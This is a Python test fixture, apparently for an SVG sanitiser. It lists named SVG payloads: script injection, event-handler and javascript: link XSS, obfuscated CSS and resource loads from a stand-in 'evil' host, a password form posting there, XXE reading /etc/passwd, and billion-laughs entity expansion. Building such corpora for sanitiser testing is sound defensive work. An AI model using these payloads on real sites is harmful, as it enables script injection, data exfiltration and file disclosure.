"""Tricks that make an SVG do something, each by what it is called. `{evil}` is another host."""

from __future__ import annotations

import gzip

_NAMES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
RUN = "document.documentElement.setAttribute('ran','1')"
EVIL = "http://127.0.0.1:9/evil"


def svg(inside: str, attributes: str = "", before: str = "") -> bytes:
    head = f'{before}<svg {_NAMES} width="90" height="90" {attributes}>'
    return f'{head}<rect id="r" width="9" height="9"/>{inside}</svg>'.encode()


_HTML = 'xmlns="http://www.w3.org/1999/xhtml"'
TRICKS: dict[str, bytes] = {
    "script": svg(f"<script>{RUN}</script>"),
    "script in CDATA": svg(f"<script><![CDATA[{RUN}]]></script>"),
    "script from elsewhere": svg(f'<script href="{EVIL}.js"/>'),
    "script by data": svg(f'<script xlink:href="data:text/javascript,{RUN}"/>'),
    "script with a prefix": svg(f'<s:script xmlns:s="http://www.w3.org/2000/svg">{RUN}</s:script>'),
    "script of HTML": svg(f"<script {_HTML}>{RUN}</script>"),
    "script inside an unknown element": svg(f'<x:y xmlns:x="urn:x"><script>{RUN}</script></x:y>'),
    "script inside metadata": svg(f"<metadata><script>{RUN}</script></metadata>"),
    "script inside defs": svg(f"<defs><g><script>{RUN}</script></g></defs>"),
    "script inside a title": svg(f"<title><script>{RUN}</script></title>"),
    "onload": svg("", f'onload="{RUN}"'),
    "onload of a part": svg(f'<g onload="{RUN}"/>'),
    "onbegin": svg(f'<animate attributeName="x" begin="0s" dur="1s" onbegin="{RUN}"/>'),
    "onerror of an image": svg(f'<image href="data:image/png;base64,x" onerror="{RUN}"/>'),
    "onfocus": svg(f'<a href="#r" autofocus="" tabindex="0" onfocus="{RUN}"><text>x</text></a>'),
    "handler": svg(
        f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" type="text/javascript">{RUN}</handler>'
    ),
    "foreignObject": svg(
        f'<foreignObject width="90" height="90"><img {_HTML} src="x" onerror="{RUN}"/></foreignObject>'
    ),
    "iframe": svg(f'<foreignObject><iframe {_HTML} src="javascript:parent.{RUN}"/></foreignObject>'),
    "iframe on its own": svg(f'<iframe {_HTML} srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"/>'),
    "HTML image": svg(f'<img {_HTML} src="x" onerror="{RUN}"/>'),
    "HTML link element": svg(f'<link {_HTML} rel="stylesheet" href="{EVIL}.css"/>'),
    "HTML meta refresh": svg(f'<meta {_HTML} http-equiv="refresh" content="0;url={EVIL}"/>'),
    "HTML base": svg(f'<base {_HTML} href="{EVIL}/"/>'),
    "javascript link": svg(f'<a href="javascript:{RUN}"><rect width="90" height="90"/></a>'),
    "javascript link by xlink": svg(f'<a xlink:href="javascript:{RUN}"><rect width="90" height="90"/></a>'),
    "javascript link in odd letters": svg(f'<a href=" jAvA&#9;sc&#10;ript:{RUN}"><rect width="90" height="90"/></a>'),
    "data link": svg(f'<a href="data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;"><rect width="90" height="90"/></a>'),
    "link that is animated": svg(
        f'<a id="a" href="#r"><rect width="90" height="90"/><set attributeName="href" to="javascript:{RUN}"/></a>'
    ),
    "link that is animated by xlink": svg(
        f'<a id="b"><rect width="90" height="90"/></a><animate href="#b" attributeName="xlink:href" dur="1s" '
        f'values="javascript:{RUN};javascript:{RUN}" fill="freeze"/>'
    ),
    "event that is animated": svg(f'<set href="#r" attributeName="onmouseover" to="{RUN}"/>'),
    "use of another file": svg(f'<use href="{EVIL}.svg#x"/>'),
    "use of data": svg("<use href=\"data:image/svg+xml,&lt;svg id='x' onload='1'/&gt;#x\"/>"),
    "image from elsewhere": svg(f'<image href="{EVIL}.png" width="9" height="9"/>'),
    "image by xlink": svg('<image xlink:href="//127.0.0.1:9/evil.png" width="9" height="9"/>'),
    "image that is an SVG": svg('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'),
    "feImage": svg(
        f'<filter id="f"><feImage href="{EVIL}.png"/></filter><rect filter="url(#f)" width="9" height="9"/>'
    ),
    "fill from elsewhere": svg(f'<rect fill="url({EVIL}.svg#g)" width="9" height="9"/>'),
    "style attribute": svg(f'<rect style="fill:url({EVIL}.svg#g)" width="9" height="9"/>'),
    "style attribute with escapes": svg(f'<rect style="mask:\\75 rl(&quot;{EVIL}.svg#g&quot;)" width="9" height="9"/>'),
    "import in a style": svg(f'<style>@import "{EVIL}.css";</style>'),
    "import with escapes": svg(f'<style>@\\69mport "{EVIL}.css";</style>'),
    "import behind a comment": svg(f'<style>/**/@im/**/port "x"; @import/**/url({EVIL}.css);</style>'),
    "font from elsewhere": svg(
        f'<style>@font-face{{font-family:x;src:url({EVIL}.woff2)}}</style><text font-family="x">x</text>'
    ),
    "background from elsewhere": svg(f"<style>svg{{background:url('{EVIL}.png')}}</style>"),
    "image-set": svg(f"<style>svg{{background:image-set('{EVIL}.png' 1x)}}</style>"),
    "style in a style": svg(f"<style>a{{}}<style>@import '{EVIL}.css';</style></style>"),
    "xml-stylesheet": svg("", before=f'<?xml-stylesheet href="{EVIL}.css"?>'),
    "stylesheet that transforms": svg("", before=f'<?xml-stylesheet type="text/xsl" href="{EVIL}.xsl"?>'),
    "xml:base": svg('<use href="#r"/>', f'xml:base="{EVIL}/"'),
    "image-set of WebKit": svg(f"<style>svg{{background:-webkit-image-set(url({EVIL}.png) 1x)}}</style>"),
    "src": svg(f"<style>svg{{background:src('{EVIL}.png')}}</style>"),
    "a function that nobody knows yet": svg(f"<style>svg{{background:fetched('{EVIL}.png')}}</style>"),
    "a comment in strings": svg(f'<style>a{{content:"/*"}}rect{{fill:url({EVIL}.svg#x)}}b{{content:"*/"}}</style>'),
    "a comment in strings of an attribute": svg(
        f"<rect style=\"mask:'/*';mask-image:url({EVIL}.png);x:'*/'\" width='9' height='9'/>"
    ),
    "a comment in strings of a colour": svg(f"<rect fill=\"'/*' url({EVIL}.svg#x) '*/'\" width='9' height='9'/>"),
    "a comment in the string of a rule": svg(f'<style>@charset "/*";@import "{EVIL}.css";/**/</style>'),
    "an address in a string": svg(
        f"<style>a{{content:'url(\"#'}}svg{{background:url({EVIL}.png)}}c{{d:'\")'}}</style>"
    ),
    "an address in a string, bare": svg(
        f"<style>a{{content:'url(#'}}svg{{background:url({EVIL}.png)}}c{{d:')'}}</style>"
    ),
    "a string in a comment": svg(f"<style>/*'*/svg{{background:url({EVIL}.png)}}/*'*/</style>"),
    "a string that is not closed": svg(f"<style>a{{b:'\n}}svg{{background:url({EVIL}.png)}}c{{d:'}}</style>"),
    "a string that ends with an escape": svg(
        f"<style>a{{b:'\\\\'}}svg{{background:url({EVIL}.png)}}c{{d:'\\\\'}}</style>"
    ),
    "an escaped line end in a name": svg(f"<style>svg{{background:\\75\nrl({EVIL}.png)}}</style>"),
    "an escaped bracket": svg(f"<style>a{{b:x\\(url(#y\\)}}svg{{background:url({EVIL}.png)}}</style>"),
    "an address behind an address": svg(f"<style>svg{{background:url(#a),url(#b),url( {EVIL}.png )}}</style>"),
    "an address that is not closed": svg(f"<style>svg{{background:url({EVIL}.png</style>"),
    "an address with modifiers": svg(f"<style>svg{{background:url('{EVIL}.png' x)}}</style>"),
    "an address in a variable": svg(f"<style>svg{{--x:url({EVIL}.png);background:var(--x)}}</style>"),
    "an address behind a sign that is new in no name": svg(f"<style>svg{{background:×url({EVIL}.png)}}</style>"),
    "an address behind a number": svg(f"<style>svg{{background:1.url({EVIL}.png)}}</style>"),
    "a namespace": svg(f"<style>@namespace url({EVIL});</style>"),
    "a style in CDATA": svg(f"<style><![CDATA[svg{{background:url({EVIL}.png)}}]]></style>"),
    "a style in pieces": svg(f"<style>svg{{background:u<!-- -->rl({EVIL}.png)}}</style>"),
    "a style around an editor's element": svg(
        f'<style>/*<x:y xmlns:x="urn:x">*/</x:y>*/svg{{background:url({EVIL}.png)}}/*</style>'
    ),
    "a colour that is animated": svg(
        f'<rect width="9" height="9"><set attributeName="fill" to="url({EVIL}.svg#x)"/></rect>'
    ),
    "values of an animation in a string": svg(
        '<rect width="9" height="9"><animate attributeName="fill" dur="1s" '
        f"values=\"'; url({EVIL}.svg#x);url({EVIL}.svg#x);'\"/></rect>"
    ),
    "use with a blank of width zero": svg('<use href="\u200b#x"/>'),
    "cursor": svg(f'<cursor href="{EVIL}.png"/>'),
    "presentation cursor": svg(f'<rect cursor="url({EVIL}.cur),auto" width="9" height="9"/>'),
    "video": svg(f'<video {_HTML} src="{EVIL}.mp4" autoplay=""/>'),
    "object": svg(f'<object {_HTML} data="{EVIL}"/>'),
    "form": svg(f'<form {_HTML} action="{EVIL}"><input type="password"/></form>'),
}
REFUSED: dict[str, bytes] = {
    "entity": svg("&e;", before='<!DOCTYPE svg [<!ENTITY e "x">]>'),
    "a billion laughs": svg(
        "&d;",
        before='<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">'
        '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    ),
    "a file of the machine": svg("&e;", before='<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    "a parameter entity": svg("", before=f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{EVIL}.dtd"> %p;]>'),
    "attributes by default": svg("", before=f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>'),
    **{
        f"XHTML's entities in {name}": svg(
            inside, before='<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/x.dtd">'
        )
        for name, inside in {
            "a link": f'<a href="javascript&colon;{RUN}"><text>x</text></a>',
            "a colour": '<rect fill="url&lpar;//evil/x&rpar;"/>',
            "a style": f'<style>&commat;import "{EVIL}.css";</style>',
            "words": "<text>a&nbsp;b</text>",
        }.items()
    },
    "a DOCTYPE in a DOCTYPE": svg(
        f"<a href='javascript&colon;{RUN}'/>", before="<!DOCTYPE svg SYSTEM '<!DOCTYPE' ><!-- ' > -->"
    ),
    "EBCDIC": b'<?xml version="1.0" encoding="cp037"?>' + "<!DOCTYPE svg><svg/>".encode("cp037"),
    "UTF-7": b'<?xml version="1.0" encoding="utf-7"?>' + svg(""),
    "UTF-16 without its mark": svg("").decode().encode("utf-16-le"),
    "too deep of an editor's": svg("<x:g xmlns:x='urn:x'>" + "<x:g>" * 500 + "</x:g>" * 501),
    "too deep": svg("<g>" * 5000 + "</g>" * 5000),
    "cut off": svg("<g>")[:-12],
    "text": b"this is a text",
    "nothing": b"",
    "HTML": f"<html {_HTML}><script>{RUN}</script></html>".encode(),
    "a script as the root": f'<script xmlns="http://www.w3.org/2000/svg">{RUN}</script>'.encode(),
    "an encoding that nobody knows": b'<?xml version="1.0" encoding="x-none"?>' + svg(""),
    "packed": gzip.compress(svg("")),
    "zeros": b"\0" * 100,
}
